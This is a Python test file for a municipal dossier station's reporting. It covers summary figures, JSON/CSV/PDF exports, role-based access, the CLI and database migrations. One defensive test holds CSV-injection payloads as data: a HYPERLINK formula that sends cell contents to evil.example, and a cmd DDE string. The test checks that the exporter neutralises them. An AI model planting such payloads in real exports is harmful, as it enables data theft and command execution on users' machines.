"""Reports at the station: facts from clear columns, exports over HTTP and the CLI, roles."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import uuid
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from station_kit import Tablet

from shared.codes import make_code
from shared.model import Dossier
from shared.reports import Period
from shared.workdays import VN_TZ, due_at, vn_now
from shared.workflow import Status
from sync_server.__main__ import main
from sync_server.services.core import audit
from sync_server.services.core.station import Station
from sync_server.services.office import dossiers as dossier_store
from sync_server.services.reports import reports
from sync_server.store import reports as reports_q
from sync_server.store.db import transaction

UNIT = "000.31.22.H20"
SUPPLEMENT_REASON = "Thiếu bản sao Giấy chứng sinh có chứng thực"
REFUSAL_REASON = "Hồ sơ không thuộc thẩm quyền của Ủy ban nhân dân xã"
COMMENT = "Cán bộ hướng dẫn tận tình, trả kết quả ngay trong buổi sáng"


def at(m: int, d: int, hh: int, mm: int = 0) -> str:
    return datetime(2026, m, d, hh, mm, tzinfo=VN_TZ).isoformat()


class History:
    """Writes hand-made dossier histories straight into a real station database, through
    the same store and audit functions the workflow uses (so the trigger-kept columns and
    the hash chain are exercised), at chosen times."""

    def __init__(self, station: Station, device_id: str, slot: int) -> None:
        self.station, self.device_id, self.slot, self.n = station, device_id, slot, 0

    def dossier(self, received: str, procedure: str = "1.001193", channel: str = "counter") -> str:
        self.n += 1
        moment = datetime.fromisoformat(received)
        limit = self.station.catalogue.get(procedure).time_limit_working_days
        d = Dossier(
            id=str(uuid.uuid4()),
            code=make_code(UNIT, moment.date(), self.slot * 100 + self.n),
            procedure=procedure,
            procedure_version=1,
            values={},
            status=Status.RECEIVED,
            version=1,
            base_version=0,
            device_id=self.device_id,
            received_by="tiepnhan",
            received_at=received,
            due_at=due_at(moment, limit).isoformat(),
        )
        with self.station.session() as db, transaction(db):
            dossier_store.save(db, self.station.keys, d)
            reports_q.set_channel(db, d.id, channel)
            self._audit(db, d.id, "receive", received)
        return d.id

    def _audit(self, db: Any, did: str, action: str, when: str, reason: str | None = None) -> None:
        audit.append(
            db,
            self.station.keys,
            action=action,
            actor="x",
            at=when,
            dossier_id=did,
            device_id=self.device_id,
            reason=reason,
        )

    def act(self, did: str, action: str, when: str, reason: str | None = None) -> None:
        with self.station.session() as db, transaction(db):
            self._audit(db, did, action, when, reason)

    def done(self, did: str, when: str) -> None:
        for action in ("accept", "approve", "stamp", "return"):
            self.act(did, action, when)


@pytest.fixture
def history(demo_station: Station, tablet: Tablet) -> History:
    return History(demo_station, tablet.device_id, tablet.slot)


def _summary(station: Station, start: date, end: date, procedure: str | None = None) -> Any:
    with station.session() as db:
        report = reports.build_report(
            db,
            station.keys,
            station.catalogue,
            Period(start, end),
            procedure,
            now=datetime(2026, 12, 31, tzinfo=VN_TZ),
            free_text=True,
        )
    return report.view.summary.to_dict()


def test_station_history_boundaries(demo_station: Station, history: History) -> None:
    h = history
    on_time = h.dossier(at(11, 23, 9))  # same-day procedure: due Mon 23 Nov 17:00
    h.done(on_time, at(11, 23, 16, 59))
    late = h.dossier(at(11, 23, 9), channel="home_visit")
    h.done(late, at(11, 23, 17, 1))
    # Due Mon 17:00 at first; the supplement restarts the clock on Wednesday morning.
    restarted = h.dossier(at(11, 23, 9))
    h.act(restarted, "request_supplement", at(11, 23, 10), SUPPLEMENT_REASON)
    h.act(restarted, "supplement", at(11, 25, 9))
    h.done(restarted, at(11, 25, 16))
    refused = h.dossier(at(11, 25, 9))
    h.act(refused, "refuse", at(11, 25, 10), REFUSAL_REASON)
    open_overdue = h.dossier(at(11, 26, 9))
    h.dossier(at(11, 20, 9))  # carried over from the week before, still open

    with demo_station.session() as db, transaction(db):
        reports.record_rating(
            db,
            demo_station.keys,
            dossier_id=on_time,
            level="very_satisfied",
            comment=COMMENT,
            actor="vanthu",
            at=at(11, 23, 16, 59),
        )
        reports.record_apology(
            db,
            demo_station.keys,
            dossier_id=open_overdue,
            actor="lanhdao",
            new_due_at=at(11, 30, 16),
            reason="Chờ xác minh",
            at=at(11, 26, 16),
        )

    s = _summary(demo_station, date(2026, 11, 23), date(2026, 11, 29))
    assert s["received"] == {
        "total": 6,
        "carried_over": 1,
        "new": 5,
        "new_by_channel": {"counter": 4, "home_visit": 1, "other": 0},
    }
    r = s["resolved"]
    assert (r["total"], r["early"], r["on_time"], r["late"], r["refused"]) == (4, 0, 2, 1, 1)
    assert s["in_progress"] == {
        "total": 2,
        "not_yet_due": 0,
        "overdue": 2,
        "awaiting_supplement": 0,
    }
    assert s["supplements"]["reasons"] == [{"reason": SUPPLEMENT_REASON, "count": 1}]
    assert s["refusals"]["reasons"] == [{"reason": REFUSAL_REASON, "count": 1}]
    assert s["satisfaction"]["very_satisfied"] == 1 and s["satisfaction"]["rate"] == 100.0
    assert s["satisfaction"]["comments"][0]["comment"] == COMMENT
    assert s["apology_letters"] == 1
    assert s["same_day"]["same_day"] == 2 and s["same_day"]["first_visit"] == 2
    # The week before: only the carried-over dossier, received and still open.
    before = _summary(demo_station, date(2026, 11, 16), date(2026, 11, 22))
    assert before["received"]["new"] == 1 and before["in_progress"]["overdue"] == 1


def test_reports_are_for_leaders_and_admins(
    client: TestClient, as_user: Any, demo_station: Station
) -> None:
    q = "from=2026-11-01&to=2026-11-30"
    for who in ("tiepnhan", "thamdinh", "vanthu"):
        r = client.get(f"/v1/reports/summary?{q}", headers=as_user(who))
        assert r.status_code == 403 and r.json()["code"] == "ROLE_NOT_ALLOWED", who
        assert r.headers["content-type"].startswith("application/problem+json")
    for path in ("/v1/reports/summary", "/v1/reports/summary.csv", "/v1/reports/summary.pdf"):
        assert client.get(f"{path}?{q}").status_code == 401
        r = client.get(f"{path}?{q}", headers=as_user("tiepnhan"))
        assert r.status_code == 403
    for who in ("lanhdao", "quantri"):
        assert client.get(f"/v1/reports/summary?{q}", headers=as_user(who)).status_code == 200


@pytest.mark.parametrize(
    ("query", "status", "field"),
    [
        ("from=2026-13-01&to=2026-11-30", 400, "from"),
        ("to=2026-11-30", 400, "from"),
        ("from=2026-11-01", 400, "to"),
        ("from=2026-11-30&to=2026-11-01", 400, "to"),
        ("from=2026-11-01&to=2026-11-30&procedure=9.999999", 404, "procedure"),
    ],
)
def test_bad_parameters_are_problems_with_a_field(
    client: TestClient, as_user: Any, query: str, status: int, field: str
) -> None:
    for path in ("/v1/reports/summary", "/v1/reports/summary.csv"):
        r = client.get(f"{path}?{query}", headers=as_user("lanhdao"))
        assert r.status_code == status, r.text
        assert r.json()["field"] == field


def _today_history(
    client: TestClient,
    as_user: Any,
    tablet: Tablet,
    supplement_reason: str = SUPPLEMENT_REASON,
    refusal_reason: str = REFUSAL_REASON,
) -> dict[str, Any]:
    """Real dossiers through push and the HTTP workflow, today."""
    done = tablet.dossier(channel="home_visit")
    supp = tablet.dossier()
    refused = tablet.dossier()
    r = tablet.push([tablet.change(d) for d in (done, supp, refused)])
    assert [x["outcome"] for x in r.json()["results"]] == ["applied"] * 3

    def act(who: str, did: str, action: str, reason: str | None = None) -> None:
        r = client.post(
            f"/v1/dossiers/{did}/actions",
            json={"action": action, "reason": reason},
            headers=as_user(who),
        )
        assert r.status_code == 200, r.text

    for who, action in (
        ("thamdinh", "accept"),
        ("lanhdao", "approve"),
        ("vanthu", "stamp"),
        ("vanthu", "return"),
    ):
        act(who, done["id"], action)
    act("thamdinh", supp["id"], "request_supplement", supplement_reason)
    act("thamdinh", refused["id"], "refuse", refusal_reason)
    return done


def _rated_day(
    client: TestClient, as_user: Any, tablet: Tablet, station: Station
) -> tuple[dict[str, Any], str]:
    """Today's history, the finished dossier rated "satisfied" with a comment by the
    clerk; (that dossier, the query string of today's report)."""
    done = _today_history(client, as_user, tablet)
    with station.session() as db, transaction(db):
        reports.record_rating(
            db,
            station.keys,
            dossier_id=done["id"],
            level="satisfied",
            comment=COMMENT,
            actor="vanthu",
        )
    today = vn_now().date().isoformat()
    return done, f"from={today}&to={today}"


def test_exports_json_csv_pdf(
    client: TestClient, as_user: Any, tablet: Tablet, demo_station: Station, tmp_path: Path
) -> None:
    done, q = _rated_day(client, as_user, tablet, demo_station)
    headers = as_user("lanhdao")

    r = client.get(f"/v1/reports/summary?{q}", headers=headers)
    assert r.status_code == 200, r.text
    body = r.json()
    # The answer is shared.views.ReportView: its keys, in order, are the API's (docs/reports.md).
    assert list(body) == [
        "unit",
        "period",
        "procedure",
        "generated_at",
        "summary",
        "by_procedure",
        "series",
        "page",
        "free_text",
        "audit_checkpoint",
        "audit_anchor",
    ]
    assert body["period"] == {"from": q[5:15], "to": q[-10:]} and body["procedure"] is None
    assert list(body["audit_checkpoint"]) == ["seq", "hash", "at"]
    assert list(body["audit_anchor"]) == ["rows", "head", "at", "sig"]
    assert list(body["unit"]) == ["code", "name"] and body["free_text"] is True
    s = body["summary"]
    assert s["received"]["new"] == 3
    assert s["received"]["new_by_channel"]["home_visit"] == 1
    assert s["resolved"]["refused"] == 1
    assert s["resolved"]["early"] + s["resolved"]["on_time"] + s["resolved"]["late"] == 1
    assert s["in_progress"]["awaiting_supplement"] == 1
    assert s["same_day"]["same_day"] == 1
    assert body["page"]["charts"]["timeliness_by_week"]
    head = body["audit_checkpoint"]
    assert head["seq"] >= 9 and len(head["hash"]) == 64
    only = client.get(f"/v1/reports/summary?{q}&procedure=1.001193", headers=headers).json()
    assert only["summary"]["received"]["new"] == 3 and only["procedure"] == "1.001193"

    r = client.get(f"/v1/reports/summary.csv?{q}", headers=headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][0] == "Báo cáo"
    assert ["Lý do bổ sung", "", SUPPLEMENT_REASON, "1"] in rows
    assert ["Lý do từ chối", "", REFUSAL_REASON, "1"] in rows
    assert ["Ý kiến", "Hài lòng", done["code"], COMMENT] in rows
    assert ["Tất cả thủ tục", "Tiếp nhận", "– Tại nhà", "1"] in rows

    r = client.get(f"/v1/reports/summary.pdf?{q}", headers=headers)
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(r.content)
    text = _pdftotext(pdf)
    for phrase in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "BÁO CÁO",
        "Tình hình, kết quả giải quyết thủ tục hành chính",
        "Mới tiếp nhận trong kỳ",
        "Giải quyết trước hạn / đúng hạn / quá hạn theo tuần",
        "Mức độ hài lòng theo tháng",
        SUPPLEMENT_REASON,
        REFUSAL_REASON,
        COMMENT,
        f"#{head['seq']}",
        head["hash"][:32],
    ):
        assert phrase in text, phrase
    _qpdf_check(pdf)

    # The admin gets the same figures without the free text, which can name citizens.
    admin = as_user("quantri")
    mine = client.get(f"/v1/reports/summary?{q}", headers=admin).json()
    for key in ("received", "resolved", "in_progress", "same_day"):
        assert mine["summary"][key] == s[key], key
    assert mine["summary"]["supplements"]["requests"] == s["supplements"]["requests"] == 1
    assert mine["summary"]["refusals"]["total"] == 1
    assert mine["summary"]["satisfaction"]["satisfied"] == 1
    assert mine["free_text"] is False and body["free_text"] is True
    assert mine["page"]["free_text"] is False and mine["page"]["comments"] == []
    pdf.write_bytes(client.get(f"/v1/reports/summary.pdf?{q}", headers=admin).content)
    exports = {
        "json": json.dumps(mine, ensure_ascii=False),
        "csv": client.get(f"/v1/reports/summary.csv?{q}", headers=admin).content.decode(),
        "pdf": _pdftotext(pdf),
    }
    for fmt, shown in exports.items():
        for secret in (SUPPLEMENT_REASON, REFUSAL_REASON, COMMENT):
            assert secret not in shown, (fmt, secret)
        assert fmt == "json" or "chỉ lãnh đạo được xem" in shown, fmt


def _pdftotext(pdf: Path) -> str:
    out = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
    )
    return " ".join(out.stdout.split())


def _qpdf_check(pdf: Path) -> None:
    if shutil.which("qpdf") is None:
        pytest.skip("qpdf not installed")
    out = subprocess.run(["qpdf", "--check", str(pdf)], capture_output=True, text=True)
    assert out.returncode == 0, out.stdout + out.stderr


def test_cli_report(
    client: TestClient, as_user: Any, tablet: Tablet, data_dir: Path, tmp_path: Path
) -> None:
    _today_history(client, as_user, tablet)
    today = vn_now().date().isoformat()
    for fmt in ("json", "csv", "pdf"):
        out = tmp_path / f"r.{fmt}"
        args = ["admin", "--data", str(data_dir), "report", "--from", today, "--to", today]
        assert main([*args, "--format", fmt, "--out", str(out)]) == 0
        assert out.stat().st_size > 100
    assert (tmp_path / "r.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    # The command line acts as the administrator: figures, no reasons or comments.
    for fmt in ("json", "csv", "pdf"):
        out = tmp_path / f"r.{fmt}"
        shown = _pdftotext(out) if fmt == "pdf" else out.read_text(encoding="utf-8-sig")
        assert SUPPLEMENT_REASON not in shown and REFUSAL_REASON not in shown, fmt
    assert json.loads((tmp_path / "r.json").read_text())["summary"]["refusals"]["total"] == 1
    assert "chỉ lãnh đạo được xem" in _pdftotext(tmp_path / "r.pdf")
    # The command line is the administrator's: no reason or comment that can name a
    # citizen (issue 22 §2); the figures are all there.
    for fmt in ("json", "csv", "pdf"):
        got = (
            _pdftotext(tmp_path / "r.pdf") if fmt == "pdf" else (tmp_path / f"r.{fmt}").read_text()
        )
        assert SUPPLEMENT_REASON not in got and REFUSAL_REASON not in got, fmt
    assert "Số lần yêu cầu bổ sung,1" in (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    bad = ["admin", "--data", str(data_dir), "report", "--from", "x", "--to", today]
    assert main(bad) == 1


def test_migration_backfills_the_report_columns(tmp_path: Path) -> None:
    """A station upgraded with history already in its audit log gets the columns filled."""
    from sync_server.store import db as store

    db = store.connect(tmp_path / "old.sqlite3")
    first_name, first_sql = store.MIGRATIONS[0]
    db.conn.executescript(
        f"CREATE TABLE migrations (name TEXT PRIMARY KEY, applied_at TEXT NOT NULL);\n"
        f"{first_sql}\nINSERT INTO migrations VALUES ('{first_name}', 'x');"
    )
    db.execute(
        "INSERT INTO devices (id, name, slot, x_pub, ed_pub, escrow, enrolled_at) "
        "VALUES ('dev', 't', 1, '-', '-', '-', 'x')"
    )
    for did in ("a", "b"):
        db.execute(
            "INSERT INTO dossiers (id, code, procedure, status, version, device_id, received_by,"
            " received_at, due_at, updated_at, payload_enc) VALUES (?, ?, '1.001193', 's', 1, "
            "'dev', 'x', ?, ?, 'x', x'00')",
            (did, f"code-{did}", at(11, 23, 9), at(11, 23, 17)),
        )
    rows = [
        ("a", "stamp", at(11, 23, 10)),
        ("a", "return", at(11, 23, 11)),
        ("b", "request_supplement", at(11, 23, 9, 30)),
        ("b", "supplement", at(11, 23, 10)),
        ("b", "refuse", at(11, 23, 12)),
    ]
    for seq, (did, action, when) in enumerate(rows, start=1):
        db.execute(
            "INSERT INTO audit (seq, dossier_id, action, actor, at, prev_hash, hash) "
            "VALUES (?, ?, ?, 'x', ?, '', '')",
            (seq, did, action, when),
        )
    assert store.migrate(db) == [name for name, _ in store.MIGRATIONS[1:]]
    got = {
        r["id"]: (r["outcome"], r["resolved_at"], r["returned_at"], r["channel"])
        for r in db.query("SELECT * FROM dossiers")
    }
    assert got == {
        "a": ("result", at(11, 23, 10), at(11, 23, 11), "counter"),
        "b": ("refused", at(11, 23, 12), None, "counter"),
    }
    # 0005: the supplement chain and the working hours of a return, back-filled.
    chain = {
        r["id"]: (
            r["supp_n"],
            r["supp_last_req"],
            r["supp_last_back"],
            r["supp_restart"],
            r["turn_h"],
        )
        for r in db.query("SELECT * FROM dossiers")
    }
    assert chain == {
        "a": (0, None, None, None, 2.0),
        "b": (1, at(11, 23, 9, 30), at(11, 23, 10), at(11, 23, 10), None),
    }


def test_every_report_anchors_the_audit_chain(demo_station: Station, history: History) -> None:
    """Issue 11 §6: a signed checkpoint is written on every report, and it checks out."""
    with demo_station.session() as db:
        head = audit.chain_head(db)
        report = reports.build_report(
            db,
            demo_station.keys,
            demo_station.catalogue,
            Period(date(2026, 1, 1), date(2026, 12, 31)),
        )
        anchored = report.view.to_dict()["audit_anchor"]
        assert anchored["rows"] == head["rows"] and anchored["head"] == head["head"]
        audit.check_anchor(db, demo_station.keys.ed_pk, anchored)  # genuine and current
        assert audit.verify_all(db, demo_station.keys.ed_pk, [anchored])["anchors_checked"] >= 1


# A refusal reason and a comment written to be run by the spreadsheet that opens the CSV.
FORMULA_REASON = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
FORMULA_COMMENTS = ("+1+2", "-2+3", "@SUM(1,1)", "=1+1")  # tab, CR: tests/shared


def test_csv_cells_that_would_start_a_formula_are_neutralised(
    client: TestClient, as_user: Any, tablet: Tablet, demo_station: Station
) -> None:
    """Issue 22 §2 (OWASP CSV injection): a cell starting with = + - @ tab or CR gets a
    leading apostrophe, so a spreadsheet shows it as text instead of running it."""
    done = _today_history(client, as_user, tablet, "@cmd|' /C calc'!A0", FORMULA_REASON)
    comments = []
    for i, comment in enumerate(FORMULA_COMMENTS):
        d = done if i == 0 else tablet.dossier()
        if i:
            assert tablet.push([tablet.change(d)]).status_code == 200
        with demo_station.session() as db, transaction(db):
            reports.record_rating(
                db,
                demo_station.keys,
                dossier_id=d["id"],
                level="satisfied",
                comment=comment,
                actor="vanthu",
            )
        comments.append(comment)
    today = vn_now().date().isoformat()
    r = client.get(f"/v1/reports/summary.csv?from={today}&to={today}", headers=as_user("lanhdao"))
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert ["Lý do từ chối", "", "'" + FORMULA_REASON, "1"] in rows
    assert ["Lý do bổ sung", "", "'@cmd|' /C calc'!A0", "1"] in rows
    for comment in comments:
        assert "'" + comment in cells, comment


def test_admin_exports_carry_no_free_text(
    client: TestClient, as_user: Any, tablet: Tablet, demo_station: Station
) -> None:
    """Reasons and comments can name citizens: the leader reads them, the admin does not
    (least privilege, issue 22 §2) — in the JSON, the CSV and the PDF alike."""
    _, q = _rated_day(client, as_user, tablet, demo_station)
    texts = (SUPPLEMENT_REASON, REFUSAL_REASON, COMMENT)
    for path in ("/v1/reports/summary", "/v1/reports/summary.csv"):
        leader = client.get(f"{path}?{q}", headers=as_user("lanhdao")).content.decode()
        admin = client.get(f"{path}?{q}", headers=as_user("quantri"))
        assert admin.status_code == 200
        assert all(t in leader for t in texts), path
        assert not [t for t in texts if t in admin.content.decode()], path
    body = client.get(f"/v1/reports/summary?{q}", headers=as_user("quantri")).json()
    assert body["summary"]["supplements"]["requests"] == 1  # the figures stay
    assert body["summary"]["refusals"]["total"] == 1
    assert body["free_text"] is False and body["page"]["free_text"] is False
